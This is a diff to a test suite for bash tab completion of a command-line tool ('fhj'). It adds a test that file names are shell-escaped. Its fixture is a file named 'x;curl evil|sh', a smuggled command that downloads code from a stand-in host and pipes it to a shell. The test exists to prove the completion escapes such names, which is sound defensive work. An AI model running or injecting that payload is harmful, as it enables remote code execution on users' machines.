@@ -19,6 +19,7 @@ describe("TAB in bash", () => {
     for (const name of ["family-hub-jobs", "fhj"]) await symlink(BINARY, join(folder, name));
     await writeFile(join(folder, "ring one.json"), "");
     await writeFile(join(folder, "ring-two.json"), "");
+    await writeFile(join(folder, "x;curl evil|sh"), "");
   });
   after(() => rm(folder, { recursive: true }));
 
@@ -103,8 +104,14 @@ describe("TAB in bash", () => {
       ...["fhj", "keys", "generate", "--out", "=", "ring-"],
     ]);
 
-    expect(found).to.have.members(["ring one.json", "ring-two.json"]);
+    expect(found).to.have.members(["ring\\ one.json", "ring-two.json"]);
     expect(behind).to.deep.equal(["ring-two.json"]);
+  });
+
+  it("puts no file's name into the line that would end the command and begin another", async () => {
+    const words = ["fhj", "keys", "generate", "--from", "x"];
+
+    expect(await tab(words.join(" "), words)).to.deep.equal(["x\\;curl\\ evil\\|sh"]);
   });
 
   it("says what each is where several are listed, within the width, and never puts that into the line", async () => {
